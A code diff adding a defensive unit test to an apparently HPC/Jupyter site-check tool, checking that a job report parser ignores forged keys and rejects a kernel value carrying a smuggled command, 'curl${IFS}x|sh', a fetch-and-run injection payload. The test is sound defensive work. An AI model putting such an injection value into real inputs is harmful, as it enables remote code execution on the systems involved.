@@ -111,3 +111,14 @@ def test_site_check_finds_what_the_nodes_lack(devcluster, tf_env, small_recipe: 
         shutil.rmtree(root, ignore_errors=True)
         shutil.rmtree(login_only, ignore_errors=True)
         shutil.rmtree(Path("/usr/local/share/jupyter/kernels") / f"hpcai-{login_only.name}", ignore_errors=True)
+
+
+def test_a_users_job_report_is_read_defensively() -> None:
+    """The small job runs as the user, whose processes write to its report too: each key's first line counts (the
+    probe's own come first), and a kernel's value only under a kernel's name (it is quoted into the fix printed)."""
+    from jupyter_hpcai import sitecheck
+
+    seen = sitecheck._report("hub=connected\ncmd=ok\nkernels=hpcai-a\nkernel=hpcai-a;curl${IFS}x|sh ok\n"
+                             "hub=refused\ncmd=forged\n")
+    assert seen == {"hub": "connected", "cmd": "ok", "kernels": "hpcai-a"}, seen
+    assert sitecheck._report("kernel=hpcai-tf ok\n") == {"kernel": "hpcai-tf ok"}
